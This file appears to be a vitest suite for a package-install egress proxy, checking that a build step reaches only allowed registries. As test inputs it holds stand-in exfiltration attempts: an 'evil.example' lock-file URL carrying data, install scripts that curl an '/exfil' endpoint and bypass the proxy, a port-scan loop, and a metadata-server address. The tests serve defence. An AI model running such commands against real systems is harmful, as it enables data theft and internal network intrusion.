import { access, readFile } from "node:fs/promises";
import { createServer } from "node:http";
import { createServer as createTcpServer } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { hostileAddresses } from "../../packages/adapters/src/egress/testing/hostile-addresses.ts";
import { listenHere } from "./listen-here.ts";
import { packTiny, prepareFiles, projectWith, standInFor } from "./prepare-lab.ts";

const PUBLIC = [{ address: "93.184.216.34", family: 4 }];
const HERE = [{ address: "127.0.0.1", family: 4 }];

/** A service of this machine that nothing may reach: every connection counts. */
let reached = 0;
const canary = createTcpServer((socket) => {
  reached += 1;
  socket.end("HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nsecret");
});
let canaryAddress = "";
let canaryPort = 0;

/** A registry of the internet, which answers each path as a test says. */
let answers: Record<string, { status?: number; location?: string; body?: Buffer }> = {};
const registry = createServer(({ url = "" }, response) => {
  const { status = 200, location, body } = answers[url] ?? { status: 404 };
  response.writeHead(status, location === undefined ? {} : { location }).end(body);
});
let registryPort = 0;

beforeAll(async () => {
  canaryAddress = await listenHere(canary);
  canaryPort = Number(new URL(canaryAddress).port);
  registryPort = Number(new URL(await listenHere(registry)).port);
});
beforeEach(() => {
  reached = 0;
  answers = {};
});
afterAll(() => {
  canary.close();
  registry.close();
});

const resolvePublic = async () => PUBLIC;
const reasonOf = (prepared: object) =>
  "noResult" in prepared ? String(prepared.noResult) : "It passed";

/** Asks the proxy for each address, by CONNECT and by a request without TLS, and prints each status. */
const ASK_ALL = `
const net = require("node:net");
const { readFileSync } = require("node:fs");
const ask = (head) => new Promise((resolve) => {
  let text = "";
  const socket = net.connect(process.env.GATEWAY_PORT, "127.0.0.1", () => socket.write(head));
  socket.setTimeout(5000, () => socket.destroy());
  socket.on("data", (chunk) => { text += chunk; if (text.startsWith("HTTP/1.1 200 C")) socket.end("GET / HTTP/1.1\\r\\n\\r\\n"); });
  socket.on("error", () => undefined);
  socket.on("close", () => resolve(text.split(" ")[1] ?? "closed"));
});
(async () => {
  const found = {};
  const heads = JSON.parse(readFileSync("addresses.json", "utf8")).flatMap((address) => {
    const authority = address.split("/")[2] ?? "";
    return ["CONNECT " + authority, "CONNECT " + authority.split("@").at(-1), "GET " + address];
  });
  while (heads.length > 0) {
    const asked = heads.splice(0, 50).map((head) =>
      ask(Buffer.from(head + " HTTP/1.1\\r\\nHost: registry.npmjs.org\\r\\nConnection: close\\r\\n\\r\\n")));
    for (const status of await Promise.all(asked)) found[status] = (found[status] ?? 0) + 1;
  }
  console.log(JSON.stringify(found));
  process.exit(9);
})();
`;

describe("I13 No secret leaves: a preparation reaches package registries and nothing else", () => {
  it.each([
    { what: "nothing names them", isNamed: false, isListed: false },
    { what: "the accepted lock file names them", isNamed: true, isListed: false },
    { what: "the engine's owner lists them", isNamed: true, isListed: true },
  ])("reaches this machine under no address where $what", async ({ isNamed, isListed }) => {
    const addresses = hostileAddresses(canaryPort).filter((one) => /^https?:/.test(one));
    const named = addresses.map((address) => ({ resolved: address }));
    const { prepared } = await prepareFiles({
      files: {
        "ask.js": ASK_ALL,
        "addresses.json": JSON.stringify(addresses),
        "package-lock.json": "{}",
      },
      accepted: isNamed ? { "package-lock.json": JSON.stringify(named) } : {},
      registries: { hosts: isListed ? addresses : [] },
      prepare: { run: "node ask.js", cacheKey: [] },
      // No address of another network is ever dialled by a test.
      proxy: { resolve: async () => HERE, connect: standInFor(canaryPort).connect },
    });

    const reason = reasonOf(prepared);
    expect(reason).toContain("exit code 9");
    expect(reason).toContain("which is this machine");
    expect(reason).not.toContain('"200"');
    expect(reached).toBe(0);
  });

  it("sends nothing to an address of a changed lock file, and names it with what the owner does", async () => {
    const { connect, connected } = standInFor(canaryPort);
    const { prepared } = await prepareFiles({
      files: projectWith("https://evil.example/tiny.tgz?data=SOURCE"),
      accepted: projectWith("https://packages.example/tiny.tgz"),
      prepare: { allowHosts: ["*"] },
      proxy: { resolve: resolvePublic, connect },
    });

    const reason = reasonOf(prepared);
    expect(reason).toContain("It was not allowed to reach evil.example:");
    expect(reason).toContain("adds it to `prepare.allowHosts` on the target branch");
    expect(reason).toContain('"*" of `prepare.allowHosts` no longer allows every host');
    expect([connected, reached]).toEqual([[], 0]);
  });

  it.each([
    { name: "a name of this machine", address: "127.0.0.1", says: "which is this machine" },
    { name: "a name of a private network", address: "10.1.2.3", says: "its address is not public" },
    { name: "a name of a metadata server", address: "169.254.169.254", says: "is not public" },
  ])("does not connect to an accepted host that is $name", async ({ address, says }) => {
    const { connect, connected } = standInFor(canaryPort);
    const { prepared } = await prepareFiles({
      files: projectWith("https://packages.example/tiny.tgz"),
      accepted: projectWith("https://packages.example/other.tgz"),
      proxy: { resolve: async () => [...PUBLIC, { address, family: 4 }], connect },
    });

    expect(reasonOf(prepared)).toContain("packages.example");
    expect(reasonOf(prepared)).toContain(says);
    expect([connected, reached]).toEqual([[], 0]);
  });

  it("connects to the address that it checked, whatever the name means a moment later", async () => {
    answers = { "/tiny.tgz": { body: Buffer.from("whole") } };
    const { connect, connected } = standInFor(registryPort);
    let asked = 0;
    const files = projectWith("http://packages.example/tiny.tgz");
    const { prepared } = await prepareFiles({
      ...{ files, accepted: files },
      prepare: { run: "curl --fail --silent http://packages.example/tiny.tgz", cacheKey: [] },
      proxy: { connect, resolve: async () => (++asked === 1 ? PUBLIC : HERE) },
    });

    expect(prepared).toEqual({ note: null });
    expect([connected, asked]).toEqual([["93.184.216.34"], 1]);
  });

  it("does not follow an allowed host to this machine", async () => {
    answers = { "/tiny.tgz": { status: 302, location: `${canaryAddress}/exfil` } };
    const files = projectWith("http://packages.example/tiny.tgz");
    const { prepared } = await prepareFiles({
      ...{ files, accepted: files },
      proxy: { resolve: resolvePublic, connect: standInFor(registryPort).connect },
    });

    expect(reasonOf(prepared)).toContain(`127.0.0.1:${canaryPort}, which is this machine`);
    expect(reached).toBe(0);
  });

  it("connects to no other port of an allowed host", async () => {
    const { connect, connected } = standInFor(canaryPort);
    const ask = 'curl --silent --proxytunnel --max-time 5 "http://packages.example:$port/"';
    const { prepared } = await prepareFiles({
      files: projectWith("https://packages.example/tiny.tgz"),
      accepted: projectWith("https://packages.example/tiny.tgz"),
      prepare: { run: `for port in 22 80 5432 8443; do ${ask}; done; exit 9`, cacheKey: [] },
      proxy: { resolve: resolvePublic, connect },
    });

    expect(reasonOf(prepared)).toContain("packages.example:22, packages.example:80");
    expect([connected, reached]).toEqual([[], 0]);
  });

  it("has no network beside the proxy", async () => {
    const script = `
      const net = require("node:net"), dgram = require("node:dgram");
      net.connect(${canaryPort}, "127.0.0.1").on("error", (error) => console.log(error.code));
      net.connect(53, "93.184.216.34").on("error", (error) => console.log(error.code));
      dgram.createSocket("udp4").on("error", (error) => console.log(error.code)).send("x", 53, "93.184.216.34", (error) => {
        console.log(error?.code);
        setTimeout(() => process.exit(9), 300);
      });`;
    const { prepared } = await prepareFiles({
      files: { "raw.js": script },
      prepare: { run: "unset HTTP_PROXY HTTPS_PROXY; node raw.js", cacheKey: [] },
    });

    expect(reasonOf(prepared)).toContain("ECONNREFUSED");
    expect(reasonOf(prepared)).toContain("ENETUNREACH");
    expect(reached).toBe(0);
  });

  it("keeps install scripts of packages from this machine too", async () => {
    const url = `${canaryAddress}/exfil`;
    const install = `curl --silent --max-time 5 ${url}; curl --silent --max-time 5 --noproxy '*' ${url}; curl --silent --max-time 5 --proxytunnel ${url}; exit 9`;
    const { bytes, integrity } = await packTiny({ install });
    answers = { "/tiny.tgz": { body: bytes } };
    const files = projectWith("http://packages.example/tiny.tgz", {
      ...{ integrity, hasInstallScript: true },
    });
    const { prepared } = await prepareFiles({
      ...{ files, accepted: files },
      prepare: { run: "npm ci" },
      proxy: { resolve: resolvePublic, connect: standInFor(registryPort).connect },
    });

    expect(reasonOf(prepared)).toContain(`127.0.0.1:${canaryPort}, which is this machine`);
    expect(reached).toBe(0);
  });
});

/** A host of the npm registry that this machine uses. */
const NPM_REGISTRY = "registry.npmjs.org";
const IS_NUMBER = {
  resolved: `https://${NPM_REGISTRY}/is-number/-/is-number-7.0.0.tgz`,
  integrity:
    "sha512-41Cifkg6e8TylSpdtTpeLVMqvSBEVzTttHvERD741+pnZ8ANv0004MRL43QKPDlK9cGvNp6NZWZUBlbGXYxxng==",
};

describe("a preparation through the proxy", () => {
  it("installs a package from a registry of the accepted lock file", async () => {
    const { bytes, integrity } = await packTiny();
    answers = { "/tiny.tgz": { body: bytes } };
    const { connect, connected } = standInFor(registryPort);
    const files = projectWith("http://packages.example/tiny.tgz", { integrity });
    const { prepared, directory } = await prepareFiles({
      ...{ files, accepted: files },
      proxy: { resolve: resolvePublic, connect },
    });

    expect(prepared).toEqual({ note: null });
    expect(new Set(connected)).toEqual(new Set(["93.184.216.34"]));
    expect(await readFile(join(directory, "node_modules/tiny/index.js"), "utf8")).toContain("7");
  });

  it("installs a package over TLS from the public registry", async (context) => {
    const root = { name: "shop", version: "1.0.0", dependencies: { "is-number": "7.0.0" } };
    const packages = { "": root, "node_modules/is-number": { version: "7.0.0", ...IS_NUMBER } };
    const { prepared, directory } = await prepareFiles({
      files: {
        "package.json": JSON.stringify(root),
        "package-lock.json": JSON.stringify({ ...root, lockfileVersion: 3, packages }),
      },
      // A machine may reach it at an address that is not public.
      registries: { hosts: [NPM_REGISTRY] },
    });

    const reason = reasonOf(prepared);
    if (reason.includes(`${NPM_REGISTRY} could not be reached`))
      context.skip(`${NPM_REGISTRY} cannot be reached from here; the test above has a stand-in`);
    expect(prepared).toEqual({ note: null });
    await access(join(directory, "node_modules/is-number/index.js"));
  });
});
